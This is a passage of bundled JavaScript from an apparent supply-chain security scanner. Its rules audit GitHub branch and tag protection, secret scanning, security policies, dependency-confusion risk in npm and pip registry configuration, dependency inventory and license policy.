    id: "release-branch-protection",
    area: "code",
    severity: "medium",
    title: "Release branches are not protected",
    rationale: "Patch releases are cut from release branches; if they accept force pushes or deletion, a release can be built from code nobody reviewed.",
    remediation: "Target release branches (e.g. `release/**`) with a ruleset that blocks force pushes and deletion and requires pull requests.",
    references: ["SSC-32", "SLSA Source L3", "Scorecard: Branch-Protection (release branches)"],
    access: {
      token: "github-token",
      githubToken: ["contents: read"],
      fineGrained: ["Metadata: read", "Administration: read (release branches with classic protection only)"],
      note: "One request lists branches, one more per release branch (at most five); a release branch protected only classically needs admin read, else it is unknown."
    }
  },
  needs: [releaseBranchesFact],
  defaultOptions: { patterns: RELEASE_BRANCH_PATTERNS },
  optionsSchema: {
    type: "object",
    properties: { patterns: { type: "array", items: { type: "string" }, description: `Release branch globs, a subset of ${RELEASE_BRANCH_PATTERNS.join(", ")}.` } }
  },
  evaluate(ctx) {
    const fact = ctx.need(releaseBranchesFact);
    const checked = fact.checked.filter((branch) => isReleaseBranch(branch.name, ctx.options.patterns));
    if (checked.length === 0) {
      if (fact.truncated) return [{ status: "unknown", message: `no release branch among the first ${MAX_LISTED_BRANCHES} branches; the others were not listed` }];
      return [{ status: "pass", message: "the repository has no release branches" }];
    }
    const results = [];
    for (const branch of checked) {
      let settings = settingsFromRules(branch.rules);
      if (settings.blocksForcePush && settings.blocksDeletion) continue;
      if (settings.protections.length === 0 && branch.protectedFlag) {
        if (!branch.classic?.known) {
          const reason = branch.classic && !branch.classic.known ? branch.classic.reason : "not read";
          results.push({
            status: "unknown",
            message: `release branch ${branch.name} has classic branch protection whose force-push and deletion settings could not be read: ${reason}`,
            permission: (branch.classic && !branch.classic.known ? branch.classic.permission : void 0) ?? "Administration: read"
          });
          continue;
        }
        settings = mergeSettings(settings, settingsFromClassic(branch.classic.value));
        if (settings.blocksForcePush && settings.blocksDeletion) continue;
      }
      const missing = [settings.blocksForcePush ? null : "force pushes", settings.blocksDeletion ? null : "deletion"].filter(Boolean).join(" and ");
      results.push({ status: "fail", message: `release branch ${branch.name} allows ${missing}` });
    }
    if (results.length === 0) {
      const matching = fact.matching.filter((name) => isReleaseBranch(name, ctx.options.patterns)).length;
      const sample = matching > checked.length ? ` (the ${checked.length} newest of ${matching})` : "";
      return [{ status: "pass", message: `release branches protected: ${checked.map((branch) => branch.name).join(", ")}${sample}` }];
    }
    return results;
  }
});

// src/rules/code/release-tag-protection.ts
var releaseTagProtection = defineRule({
  meta: {
    id: "release-tag-protection",
    area: "code",
    severity: "medium",
    title: "Release tags can be moved or deleted",
    rationale: "Consumers and provenance refer to tags; a tag that can be moved or deleted lets someone swap the code a version points at.",
    remediation: 'Create a tag ruleset targeting your release tags (e.g. `refs/tags/v*`) with "Restrict updates" and "Restrict deletions", enforcement Active.',
    references: ["SSC-40", "SLSA Source L3", "OSPS-BR-02"],
    access: { token: "github-token", githubToken: ["contents: read"], fineGrained: ["Metadata: read"], note: "Reads the rulesets (shared with the other protection rules)." }
  },
  needs: [rulesetsFact],
  defaultOptions: { tagNames: ["v1.0.0"] },
  optionsSchema: {
    type: "object",
    properties: { tagNames: { type: "array", items: { type: "string" }, minItems: 1, description: "Representative release tag names that must be protected (e.g. v1.2.3)." } }
  },
  evaluate(ctx) {
    const fact = ctx.need(rulesetsFact);
    const tagRulesets = fact.rulesets.filter((ruleset) => ruleset.target === "tag" && ruleset.enforcement === "active");
    const unread = tagRulesets.filter((ruleset) => ruleset.refName === null || ruleset.rules === null);
    const protects = (ruleset, ref, type) => ruleset.refName !== null && ruleset.rules !== null && refMatches(ruleset.refName, ref, null) && ruleset.rules.some((rule) => type(rule.type));
    const problems = [];
    for (const tag of ctx.options.tagNames) {
      const ref = `refs/tags/${tag}`;
      const deletion = tagRulesets.some((ruleset) => protects(ruleset, ref, (t) => t === "deletion"));
      const update = tagRulesets.some((ruleset) => protects(ruleset, ref, (t) => t === "update" || t === "non_fast_forward"));
      if (deletion && update) continue;
      if (unread.length > 0) {
        problems.push({
          status: "unknown",
          message: `tag ${tag}: the details of tag ruleset(s) ${unread.map((ruleset) => `"${ruleset.name}"`).join(", ")} could not be read (${unread[0].detailsError ?? "not read"})`,
          permission: "Metadata: read"
        });
        continue;
      }
      const missing = [update ? null : "moved (update)", deletion ? null : "deleted"].filter(Boolean).join(" or ");
      problems.push({ status: "fail", message: `tag ${tag} can be ${missing}: no active tag ruleset covers it with ${[update ? null : "update", deletion ? null : "deletion"].filter(Boolean).join(" and ")} rules` });
    }
    if (problems.length === 0) return [{ status: "pass", message: `release tags (${ctx.options.tagNames.join(", ")}) are protected by active tag rulesets` }];
    return problems;
  }
});

// src/rules/code/secret-push-protection.ts
var secretPushProtection = defineRule({
  meta: {
    id: "secret-push-protection",
    area: "code",
    severity: "medium",
    title: "Secret scanning push protection is disabled",
    rationale: "Scanning after the push means the secret is already exposed; push protection rejects the push before it lands.",
    remediation: "Settings > Code security > Push protection: Enable.",
    references: ["SSC-23", "GitHub guide: securing code (B6)"],
    access: { token: "elevated", fineGrained: ["Administration: read"], note: "Needs admin-token, like secret-scanning." }
  },
  needs: [securitySettingsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(securitySettingsFact);
    if (fact.pushProtection === void 0) return [{ status: "unknown", message: "GitHub did not report the push protection status of the repository", permission: "Administration: read" }];
    return fact.pushProtection === "enabled" ? [{ status: "pass", message: "push protection is enabled" }] : [{ status: "fail", message: "secret scanning push protection is disabled" }];
  }
});

// src/rules/code/secret-scanning.ts
var secretScanning = defineRule({
  meta: {
    id: "secret-scanning",
    area: "code",
    severity: "high",
    title: "Secret scanning is disabled",
    rationale: "A committed credential is the shortest path into a supply chain; secret scanning finds it in the history and alerts.",
    remediation: "Settings > Code security > Secret Protection / Secret scanning: Enable (private repositories need GitHub Secret Protection or Advanced Security).",
    references: ["SSC-22", "OSPS-BR-07.01", "Legitify: secret_scanning_not_enabled"],
    access: {
      token: "elevated",
      fineGrained: ["Administration: read"],
      note: "GitHub shows security_and_analysis only to repository admins and security managers: pass admin-token."
    }
  },
  needs: [securitySettingsFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(securitySettingsFact);
    if (fact.secretScanning === void 0) return [{ status: "unknown", message: "GitHub did not report the secret scanning status of the repository", permission: "Administration: read" }];
    return fact.secretScanning === "enabled" ? [{ status: "pass", message: "secret scanning is enabled" }] : [{ status: "fail", message: `secret scanning is disabled (${fact.visibility} repository)` }];
  }
});

// src/rules/code/secret-scanning-alerts.ts
var secretScanningAlerts = defineRule({
  meta: {
    id: "secret-scanning-alerts",
    area: "code",
    severity: "critical",
    title: "Open secret scanning alert",
    rationale: "An open secret scanning alert is a credential that was published and may still work.",
    remediation: "Revoke and rotate the secret, then close the alert as revoked; close false positives with a reason.",
    references: ["SSC-24", "GitHub guide: securing code (B6)"],
    access: {
      token: "elevated",
      fineGrained: ["Secret scanning alerts: read"],
      note: "The GITHUB_TOKEN cannot read secret scanning alerts (GitHub docs): pass a fine-grained PAT or App token as admin-token."
    }
  },
  needs: [secretScanningAlertsFact],
  defaultOptions: { maxAgeDays: 0 },
  optionsSchema: { type: "object", properties: { maxAgeDays: { type: "integer", minimum: 0, description: "Days an open alert is tolerated." } } },
  evaluate(ctx) {
    const fact = ctx.need(secretScanningAlertsFact);
    if (!fact.enabled) return [{ status: "unknown", message: `secret scanning is disabled, so leaked secrets cannot be checked (${fact.disabledBecause ?? ""})`.trim(), permission: "enable secret scanning" }];
    const results = [];
    for (const alert of fact.alerts) {
      const age = ageInDays(alert.createdAt, ctx.now) ?? 0;
      if (age < ctx.options.maxAgeDays) continue;
      const extra = [alert.validity && alert.validity !== "unknown" ? `validity ${alert.validity}` : null, alert.publiclyLeaked ? "publicly leaked" : null].filter(Boolean).join(", ");
      results.push({ status: "fail", message: `secret scanning alert #${alert.number} (${alert.secretType}${extra ? `, ${extra}` : ""}) open for ${age} days: ${alert.htmlUrl}` });
    }
    if (results.length === 0) return [{ status: "pass", message: `no open secret scanning alerts older than ${ctx.options.maxAgeDays} days` }];
    return results;
  }
});

// src/github/facts/security-policy.ts
var LOCATIONS = ["", ".github/", "docs/"];
function findSecurityPolicy(paths) {
  for (const path6 of paths) {
    const lower2 = path6.toLowerCase();
    if (LOCATIONS.some((prefix) => lower2 === `${prefix}security.md` || lower2 === `${prefix}security.markdown` || lower2 === `${prefix}security.rst` || lower2 === `${prefix}security.txt` || lower2 === `${prefix}security`)) return path6;
  }
  return null;
}
var securityPolicyFact = defineFact("security-policy", async (ctx) => {
  const local = findSecurityPolicy(ctx.workspace.files());
  if (local) return known({ path: local });
  if (!ctx.target) return known({ path: null });
  const owner = ctx.target.owner;
  if (ctx.target.repo.toLowerCase() === ".github") return known({ path: null, organizationDefault: `${owner}/.github` });
  if (!ctx.github) {
    return unknownFact("no-token", `no SECURITY.md in the checkout; an organization-wide default in ${owner}/.github could not be checked without a token`, "Contents: read");
  }
  const tree = await apiFact(
    ctx.github,
    async (client) => {
      const response = await client.octokit.rest.git.getTree({ owner, repo: ".github", tree_sha: "HEAD", recursive: "true" });
      return response.data.tree.flatMap((item) => item.type === "blob" && item.path ? [item.path] : []);
    },
    { what: `${owner}/.github`, permission: "Contents: read", onNotFound: () => known([]) }
  );
  if (!tree.known) return tree;
  const inherited = findSecurityPolicy(tree.value);
  return known(inherited ? { path: `${owner}/.github:${inherited}` } : { path: null, organizationDefault: `${owner}/.github` });
});

// src/rules/code/security-policy.ts
var securityPolicy = defineRule({
  meta: {
    id: "security-policy",
    area: "code",
    severity: "medium",
    title: "No security policy (SECURITY.md)",
    rationale: "Without a security policy, people who find a vulnerability do not know how to report it privately, and tend to open a public issue.",
    remediation: "Add SECURITY.md (in the root, .github/ or docs/) saying how to report a vulnerability, ideally through private vulnerability reporting.",
    references: ["SSC-41", "OSPS-VM-02.01", "Scorecard: Security-Policy", "Allstar: SECURITY.md"],
    access: { token: "none", githubToken: ["contents: read (only to read an organization-wide default in OWNER/.github)"] }
  },
  needs: [securityPolicyFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(securityPolicyFact);
    if (fact.path) return [{ status: "pass", message: `security policy found: ${fact.path}` }];
    const where = "no SECURITY.md in the repository (root, .github/ or docs/)";
    const { organizationDefault } = fact;
    return [{ status: "fail", message: organizationDefault ? `${where} nor an organization-wide default in ${organizationDefault}` : `${where}; an organization-wide default (the owner's .github repository) was not looked for: no repository named` }];
  }
});

// src/rules/code/index.ts
var codeRules = [
  defaultBranchProtection,
  defaultBranchReview,
  defaultBranchStatusChecks,
  defaultBranchHistory,
  defaultBranchSignedCommits,
  protectionBypass,
  releaseBranchProtection,
  releaseTagProtection,
  codeowners,
  securityPolicy,
  privateVulnerabilityReporting,
  secretScanning,
  secretPushProtection,
  secretScanningAlerts,
  dependabotAlerts,
  dependabotSecurityUpdates,
  dependabotAlertSla,
  codeScanning,
  codeScanningAlertSla,
  pullRequestApproval,
  pullRequestSignedCommits
];

// src/rules/dependencies/dependency-confusion-risk.ts
import path4 from "node:path";

// src/inventory/registries.ts
import path3 from "node:path";
var MAX_CONFIG_BYTES2 = 1024 * 1024;
function lines(text) {
  return text.split(/\r?\n/);
}
function parseNpmrc(file, text) {
  const config = { path: file, directory: path3.posix.dirname(file), scopes: {} };
  lines(text).forEach((line, index) => {
    const trimmed = line.trim();
    if (trimmed === "" || trimmed.startsWith("#") || trimmed.startsWith(";")) return;
    const match = /^["']?(@[^:"'\s]+:)?registry["']?\s*[=\s]\s*["']?([^"'\s]+)["']?\s*$/.exec(trimmed);
    if (!match) return;
    const setting = { url: match[2], location: { path: file, line: index + 1, column: line.indexOf(trimmed) + 1 } };
    if (match[1]) config.scopes[match[1].slice(0, -1).toLowerCase()] = setting;
    else config.registry = setting;
  });
  return config;
}
function parseYarnrcYml(file, text) {
  const config = { path: file, directory: path3.posix.dirname(file), scopes: {} };
  let inScopes = false;
  let scope = null;
  let scopeIndent = -1;
  const value = (raw) => raw.trim().replace(/^(["'])(.*)\1$/, "$2");
  lines(text).forEach((line, index) => {
    if (line.trim() === "" || line.trim().startsWith("#")) return;
    const indent = line.length - line.trimStart().length;
    const match = /^\s*(["']?)([^"':]+)\1\s*:\s*(.*?)\s*(?:#.*)?$/.exec(line);
    if (!match) return;
    const key2 = match[2].trim();
    const location = { path: file, line: index + 1, column: indent + 1 };
    if (indent === 0) {
      inScopes = key2 === "npmScopes";
      scope = null;
      if (key2 === "npmRegistryServer" && match[3]) config.registry = { url: value(match[3]), location };
      return;
    }
    if (!inScopes) return;
    if (scope === null || indent <= scopeIndent) {
      scope = `@${key2.replace(/^@/, "").toLowerCase()}`;
      scopeIndent = indent;
      return;
    }
    if (key2 === "npmRegistryServer" && match[3]) config.scopes[scope] = { url: value(match[3]), location };
  });
  return config;
}
function parseRequirementsIndexes(file, text) {
  const options = [];
  lines(text).forEach((line, index) => {
    const match = /^(\s*)(--index-url|-i|--extra-index-url)(?:\s*=\s*|\s+)(\S+)/.exec(line);
    if (!match) return;
    options.push({ kind: match[2] === "--extra-index-url" ? "extra-index-url" : "index-url", url: match[3], location: { path: file, line: index + 1, column: match[1].length + 1 } });
  });
  return options;
}
function parsePipConf(file, text) {
  const options = [];
  let continuing = null;
  lines(text).forEach((line, index) => {
    const location = { path: file, line: index + 1, column: line.length - line.trimStart().length + 1 };
    if (continuing && /^\s+\S/.test(line) && !/^\s*[#;]/.test(line)) {
      for (const url of line.trim().split(/\s+/)) options.push({ kind: continuing, url, location });
      return;
    }
    continuing = null;
    const match = /^\s*(index-url|extra-index-url)\s*[=:]\s*(.*)$/.exec(line);
    if (!match) return;
    const kind = match[1];
    for (const url of match[2].trim().split(/\s+/).filter(Boolean)) options.push({ kind, url, location });
    continuing = kind;
  });
  return options;
}
var REQUIREMENTS = /(^|\/)[^/]*requirements[^/]*\.(txt|in)$/i;
function readRegistryConfig(workspace) {
  const config = { npm: [], pip: {} };
  for (const file of workspace.files()) {
    if (workspace.isIgnored(file)) continue;
    const base = path3.posix.basename(file);
    const kind = base === ".npmrc" || base === ".yarnrc" ? "npmrc" : base === ".yarnrc.yml" ? "yarnrc" : base === "pip.conf" || base === "pip.ini" ? "pip" : REQUIREMENTS.test(file) ? "requirements" : null;
    if (!kind || /(^|\/)node_modules\//.test(file)) continue;
    const read = workspace.readText(file, MAX_CONFIG_BYTES2);
    if (!read.ok) continue;
    if (kind === "npmrc") config.npm.push(parseNpmrc(file, read.text));
    else if (kind === "yarnrc") config.npm.push(parseYarnrcYml(file, read.text));
    else {
      const options = kind === "pip" ? parsePipConf(file, read.text) : parseRequirementsIndexes(file, read.text);
      if (options.length > 0) config.pip[file] = options;
    }
  }
  return config;
}
var registryConfigFact = defineFact("workspace.registry-config", async (ctx) => known(readRegistryConfig(ctx.workspace)));

// src/rules/dependencies/dependency-confusion-risk.ts
var PUBLIC_NPM = /* @__PURE__ */ new Set(["registry.npmjs.org", "registry.npmjs.com", "registry.yarnpkg.com"]);
var PUBLIC_PYPI = /* @__PURE__ */ new Set(["pypi.org", "pypi.python.org", "files.pythonhosted.org"]);
function host(url) {
  if (!url) return void 0;
  try {
    return new URL(url).hostname.toLowerCase();
  } catch {
    return void 0;
  }
}
var isPublicNpm = (url) => PUBLIC_NPM.has(host(url) ?? "");
var isPublicPypi = (url) => PUBLIC_PYPI.has(host(url) ?? "");
function scopeOf(name) {
  return name.startsWith("@") && name.includes("/") ? name.slice(0, name.indexOf("/")).toLowerCase() : void 0;
}
function npmConfigsFor(directory, configs) {
  const applies = (config) => config.directory === "." || directory === config.directory || directory.startsWith(`${config.directory}/`);
  return configs.filter(applies).sort((a, b) => b.directory.length - a.directory.length);
}
function withoutUserinfo(url) {
  try {
    const parsed = new URL(url);
    return `${parsed.protocol}//${parsed.host}${parsed.pathname === "/" ? "" : parsed.pathname}`;
  } catch {
    return url;
  }
}
var dependencyConfusionRisk = defineRule({
  meta: {
    id: "dependency-confusion-risk",
    area: "dependencies",
    severity: "high",
    title: "Internal package name that a public registry could serve",
    rationale: "When a package manager can fetch an internal name from a public registry too, whoever publishes that name there with a higher version gets their code into the build (dependency confusion). Pinning each internal scope or index to the private registry closes it.",
    remediation: "npm: map each internal scope in the repository's `.npmrc` (`@acme:registry=https://npm.acme.example/`) and move unscoped internal packages under a scope you own on npmjs.com. pip: use one `--index-url` that serves (or proxies) everything instead of `--extra-index-url`, or hash every requirement.",
    references: ["SSC (dependencies: dependency confusion)", "OSPS-BR-05.01", "https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610", "https://pytorch.org/blog/compromised-nightly-dependency/"],
    access: { token: "none" }
  },
  needs: [inventoryFact, registryConfigFact],
  defaultOptions: { internal: [] },
  optionsSchema: {
    type: "object",
    properties: { internal: { type: "array", items: { type: "string", minLength: 1 }, description: "name globs of packages published only to a private registry (@acme/*, acme-*)" } }
  },
  evaluate(ctx) {
    const inventory = ctx.need(inventoryFact);
    const config = ctx.need(registryConfigFact);
    const internal = (name) => ctx.options.internal.some((glob) => minimatch(name, glob, { nocase: true }));
    return [...pipIndexes(inventory.packages, config), ...npmScopes(inventory.packages, config, internal), ...internalPypi(inventory.packages, internal)];
  }
});
function pipIndexes(packages, config) {
  const results = [];
  for (const [file, options] of Object.entries(config.pip)) {
    const extras = options.filter((option) => option.kind === "extra-index-url");
    if (extras.length === 0) continue;
    const own = packages.filter((pkg) => pkg.location.path === file && pkg.ecosystem === "PyPI");
    if (own.length > 0 && own.every((pkg) => (pkg.hashes ?? []).length > 0)) continue;
    for (const extra of extras) {
      results.push({
        status: "fail",
        message: `--extra-index-url ${withoutUserinfo(extra.url)} adds an index beside ${options.some((option) => option.kind === "index-url") ? "the --index-url" : "PyPI"}: pip installs the highest version of a name found on any index, so a public package can take the place of an internal one`,
        location: locationOf(extra.location),
        fix: "serve every package from one --index-url (a private index that proxies PyPI), or pin every requirement with --hash"
      });
    }
  }
  return results;
}
function npmScopes(packages, config, internal) {
  const results = [];
  const byLockfile = /* @__PURE__ */ new Map();
  for (const pkg of packages) {
    if (pkg.ecosystem !== "npm" || pkg.source !== "registry") continue;
    const list = byLockfile.get(pkg.location.path);
    if (list) list.push(pkg);
    else byLockfile.set(pkg.location.path, [pkg]);
  }
  for (const [lockfile, list] of byLockfile) {
    const configs = npmConfigsFor(path4.posix.dirname(lockfile), config.npm);
    const scopeRegistry = (scope) => configs.find((entry2) => entry2.scopes[scope])?.scopes[scope]?.url;
    const defaultRegistry = configs.find((entry2) => entry2.registry)?.registry?.url;
    const usesPublic = list.some((pkg) => isPublicNpm(pkg.registry));
    const reported = /* @__PURE__ */ new Set();
    const privateScopes = /* @__PURE__ */ new Map();
    for (const pkg of list) {
      const scope = scopeOf(pkg.name);
      if (!pkg.registry || isPublicNpm(pkg.registry)) continue;
      if (scope) privateScopes.set(scope, [...privateScopes.get(scope) ?? [], pkg]);
      else if (usesPublic) {
        reported.add(pkg.name);
        results.push({
          status: "fail",
          message: `${packageLabel(pkg)} is resolved from ${withoutUserinfo(pkg.registry)}, a private registry, while this lockfile also resolves from the public one: npm cannot pin an unscoped name to a registry, so a package of that name on npmjs.com can replace it`,
          location: locationOf(pkg.location),
          fix: "publish it under a scope you own (@your-org/name) and map the scope in .npmrc"
        });
      }
    }
    for (const [scope, scoped] of privateScopes) {
      const pinned = scopeRegistry(scope);
      const registry = withoutUserinfo(scoped[0].registry);
      if (pinned || defaultRegistry && host(defaultRegistry) === host(scoped[0].registry)) continue;
      for (const pkg of scoped) reported.add(pkg.name);
      results.push({
        status: "fail",
        message: `${scope} packages are resolved from ${registry} but no .npmrc in the repository maps ${scope} to it: an install without the developer's own configuration asks registry.npmjs.org for ${listSome(scoped.map((pkg) => pkg.name))}`,
        location: locationOf(scoped[0].location),
        fix: `${scope}:registry=${registry}/ in the .npmrc beside ${lockfile}`
      });
    }
    for (const pkg of list) {
      if (reported.has(pkg.name) || !internal(pkg.name)) continue;
      const scope = scopeOf(pkg.name);
      if (isPublicNpm(pkg.registry)) {
        results.push({ status: "fail", message: `${packageLabel(pkg)} is listed as internal but this lockfile resolves it from the public registry (${withoutUserinfo(pkg.registry)})`, location: locationOf(pkg.location) });
      } else if (!scope) {
        results.push({ status: "fail", severity: "medium", message: `${pkg.name} is listed as internal but has no scope: npm cannot pin an unscoped name to a registry`, location: locationOf(pkg.location), fix: "publish it under a scope you own and map the scope in .npmrc" });
      } else if (!scopeRegistry(scope)) {
        results.push({ status: "fail", severity: "medium", message: `${pkg.name} is listed as internal but no .npmrc in the repository maps ${scope} to a registry`, location: locationOf(pkg.location), fix: `${scope}:registry=<your registry> in the .npmrc beside ${lockfile}` });
      }
    }
  }
  return results;
}
function internalPypi(packages, internal) {
  return packages.filter((pkg) => pkg.ecosystem === "PyPI" && internal(pkg.name) && isPublicPypi(pkg.registry)).map((pkg) => ({ status: "fail", message: `${packageLabel(pkg)} is listed as internal but is resolved from the public index (${withoutUserinfo(pkg.registry)})`, location: locationOf(pkg.location) }));
}

// src/rules/dependencies/dependency-inventory.ts
var dependencyInventory = defineRule({
  meta: {
    id: "dependency-inventory",
    area: "dependencies",
    severity: "medium",
    title: "Dependency files that could not be read",
    rationale: 'A lockfile chaingate cannot parse hides every package in it from the dependency checks (licences, pinning, confusion, and advisories). Reporting it as "no dependencies" would pass on what was not seen.',
    remediation: "Fix the file at the line given (regenerate the lockfile with its package manager), or exclude it with `ignore-paths` when it is a fixture.",
    references: ["SSC (dependencies: inventory)", "OSPS-QA-02.01", "SLSA (dependency inventory)"],
    access: { token: "none" }
  },
  needs: [inventoryFact],
  defaultOptions: {},
  evaluate(ctx) {
    const fact = ctx.need(inventoryFact);
    const { packages, files, problems } = fact;
    const results = problems.map((problem) => ({
      status: "unknown",
      message: `${problem.path} (${problem.format}) could not be inventoried: ${problem.message}`,
      location: { path: problem.path, startLine: problem.line ?? 1, startColumn: problem.column ?? 1, endLine: problem.line ?? 1, endColumn: problem.column ?? 1 }
    }));
    if (results.length === 0) {
      const read = files.length;
      results.push({ status: "pass", message: read === 0 ? "no lockfile, manifest or workflow dependency found" : `${packages.length} package${packages.length === 1 ? "" : "s"} inventoried from ${read} file${read === 1 ? "" : "s"}` });
    }
    return results;
  }
});

// src/github/facts/dependency-graph-sbom.ts
var UNKNOWN_VALUES = /* @__PURE__ */ new Set(["", "NOASSERTION", "OTHER", "NONE"]);
var usable = (value) => typeof value === "string" && !UNKNOWN_VALUES.has(value.trim().toUpperCase()) ? value.trim() : void 0;
function licensesFromExport(body, purlKey) {
  const sbom = body?.sbom;
  const packages = sbom?.packages;
  if (typeof sbom !== "object" || sbom === null || !Array.isArray(packages)) throw new Error("the response is not an SBOM export (no sbom.packages list)");
  const licenses = {};
  for (const entry2 of packages) {
    if (typeof entry2 !== "object" || entry2 === null) throw new Error("the response is not an SBOM export (a package is not an object)");
    const license = usable(entry2.licenseDeclared) ?? usable(entry2.licenseConcluded);
    if (!license || !Array.isArray(entry2.externalRefs)) continue;
    for (const ref of entry2.externalRefs) {
      if (ref?.referenceType !== "purl" || typeof ref.referenceLocator !== "string") continue;
      const key2 = purlKey(ref.referenceLocator);
      if (key2) licenses[key2] = license;
    }
  }
  return { licenses, packages: packages.length };
}
var githubSbomFact = defineFact("github.dependency-graph-sbom", async (ctx) => {
  if (!ctx.target) return noTarget();
  const { owner, repo } = ctx.target;
  const what2 = `GitHub's SBOM export of ${owner}/${repo}`;
  const body = await apiFact(ctx.github, async (client) => (await client.octokit.rest.dependencyGraph.exportSbom({ owner, repo })).data, {
    what: what2,
    permission: "Contents: read"
  });
  if (!body.known) return body;
  const { purlKey } = await import("./purl-key-3G2ALWCC.js");
  try {
    return known(licensesFromExport(body.value, purlKey));
  } catch (error) {
    return unknownFact("api-error", `could not read ${what2}: ${error.message}`);
  }
});

// src/inventory/licenses/fact.ts
function mergeLicenses(inventory, installed, github, spdx, purlKey) {
  return inventory.packages.map((pkg, index) => {
    const candidates = [];
    if (pkg.license) candidates.push({ license: pkg.license, source: "lockfile" });
    const local = installed.get(index);
    if (local) candidates.push({ license: local, source: "installed" });
    if (github.known && pkg.purl) {
      const key2 = purlKey(pkg.purl);
      const remote = key2 ? github.value.licenses[key2] : void 0;
      if (remote) candidates.push({ license: remote, source: "github" });
    }
    return candidates.find((candidate) => spdx.classifyLicense(candidate.license).kind === "valid") ?? candidates[0];
  });
}
var licensesFact = defineFact("inventory.licenses", async (ctx) => {
  const inventory = await ctx.get(inventoryFact);
  if (!inventory.known) return inventory;
  const spdx = await import("./spdx-3TG2MRZP.js");
  const { purlKey } = await import("./purl-key-3G2ALWCC.js");
  const { installedLicenses } = await import("./installed-MB6IMJAT.js");
  const isExpression = (text) => spdx.classifyLicense(text).kind === "valid";
  const installed = installedLicenses(ctx.workspace, inventory.value.packages, isExpression);
  const needsGitHub = inventory.value.packages.some((pkg, index) => !isExpression(pkg.license ?? installed.get(index) ?? ""));
  const github = needsGitHub ? await ctx.get(githubSbomFact) : known({ licenses: {}, packages: 0 });
  const tools = { classifyLicense: spdx.classifyLicense, satisfiesAllow: spdx.satisfiesAllow, deniedBy: spdx.deniedBy, isSingleLicense: spdx.isSingleLicense };
  return known({
    licenses: mergeLicenses(inventory.value, installed, github, tools, purlKey),
    github: github.known ? { read: true, packages: github.value.packages } : { read: false, reason: github.reason, ...github.permission ? { permission: github.permission } : {} },
    spdx: tools
  });
});

// src/rules/dependencies/license-policy.ts
var SINGLE_LICENSE = /^[A-Za-z0-9][A-Za-z0-9.:+-]*( WITH [A-Za-z0-9][A-Za-z0-9.:+-]*)?$/;
function exempted(pkg, globs) {
  return globs.some((glob) => glob.startsWith("pkg:") ? pkg.purl !== void 0 && minimatch(pkg.purl, glob, { nocase: true }) : minimatch(pkg.name, glob, { nocase: true }));
}
function whyNoLicense(format, licenses) {
  const github = licenses.github.read ? "not in GitHub's SBOM export of the default branch either" : `GitHub's SBOM export not read: ${licenses.github.reason}`;
  return `no license data: ${format} records none, no installed metadata was found beside it, ${github}`;
}
var licensePolicy = defineRule({
  meta: {
    id: "license-policy",
    area: "dependencies",
    severity: "high",
    title: "Dependency license outside the license policy",
    rationale: "A dependency under a license the organisation cannot accept (strong copyleft in a product it distributes, a non-commercial clause, no license at all) is a legal problem that grows with every release that ships it. The check only says something useful against a policy: configure `allow` or `deny`.",
    remediation: "Replace the package, obtain it under another license, or record a reviewed exception (`exempt`, or a waiver with a reason and expiry).",
    references: ["SSC (dependencies: licenses)", "OSPS-LE-02", "dependency-review-action: allow-licenses / deny-licenses", "https://spdx.org/licenses/"],
    access: { token: "none", githubToken: ["contents: read"], fineGrained: ["Contents: read"], note: "offline: licenses from lockfiles and installed metadata; with a token, also GitHub's SBOM export (one request)" },
    baseline: false
  },
  needs: [inventoryFact, licensesFact],
  defaultOptions: { exempt: [], scopes: ["runtime", "optional", "unknown"] },
  strictOptions: { scopes: ["runtime", "dev", "optional", "unknown"] },
  optionsSchema: {
    type: "object",
    properties: {
      allow: { type: "array", items: { type: "string" }, description: "SPDX licenses allowed (ids, id+, id WITH exception); not with deny" },
      deny: { type: "array", items: { type: "string" }, description: "SPDX licenses denied; not with allow" },
      exempt: { type: "array", items: { type: "string", minLength: 1 }, description: "purl globs (pkg:npm/@acme/*) or name globs not checked" },
      scopes: { type: "array", items: { enum: ["runtime", "dev", "optional", "unknown"] }, uniqueItems: true, description: "scopes checked (default runtime, optional, unknown)" }
    }
  },
  checkOptions(options) {
    if (options.allow !== void 0 && options.deny !== void 0) return [{ key: "deny", message: "license-policy takes an allow list or a deny list, not both" }];
    const problems = [];
    for (const key2 of ["allow", "deny"]) {
      const wrong = (options[key2] ?? []).find((entry2) => !SINGLE_LICENSE.test(entry2));
      if (wrong !== void 0) problems.push({ key: key2, message: `license-policy ${key2}: "${wrong}" is not one SPDX license (an id, id+, or id WITH exception; list the licenses of an AND/OR one by one)` });
    }
    return problems;
  },
  evaluate(ctx) {
    const inventory = ctx.need(inventoryFact);
    const licenses = ctx.need(licensesFact);
    const { allow, deny, exempt, scopes } = ctx.options;
    const list = allow ?? deny;
    if (list === void 0) return [{ status: "pass", message: "not applicable: no license policy configured (set allow or deny)" }];
    const { spdx } = licenses;
    const badEntries = list.filter((entry2) => !spdx.isSingleLicense(entry2));
    if (badEntries.length > 0) {
      return [{ status: "unknown", message: `the license policy's ${allow ? "allow" : "deny"} list has entries that are not SPDX licenses: ${badEntries.join(", ")} (see https://spdx.org/licenses/)` }];
    }
    const formats = new Map(inventory.files.map((file) => [file.path, file.format]));
    const results = [];
    const noData = /* @__PURE__ */ new Map();
    inventory.packages.forEach((pkg, index) => {
      if (pkg.source === "workspace" || pkg.ecosystem === "GitHub Actions" || !scopes.includes(pkg.scope) || exempted(pkg, exempt)) return;
      const found = licenses.licenses[index];
      const license = spdx.classifyLicense(found?.license);
      const where = locationOf(pkg.location);
      const label = packageLabel(pkg);
      const from = found ? ` (from ${found.source === "github" ? "GitHub's dependency graph" : found.source === "installed" ? "installed metadata" : "the lockfile"})` : "";
      switch (license.kind) {
        case "no-assertion":
          if (found) results.push({ status: "unknown", message: `${label}: license "${license.raw}"${from} says nothing about the license`, location: where });
          else noData.set(pkg.location.path, [...noData.get(pkg.location.path) ?? [], pkg]);
          return;
        case "invalid":
          results.push({ status: "unknown", message: `${label}: license "${license.raw}"${from} is ${license.reason}`, location: where });
          return;
        case "no-license":
          if (allow) results.push({ status: "fail", message: `${label} grants no license ("${license.raw}"${from}), which the allow list cannot accept`, location: where });
          return;
        case "valid": {
          let verdict;
          try {
            if (allow) verdict = spdx.satisfiesAllow(license.expression, allow) ? null : { status: "fail", message: `${label} is licensed ${license.expression}${from}, not allowed by the license policy`, location: where };
            else {
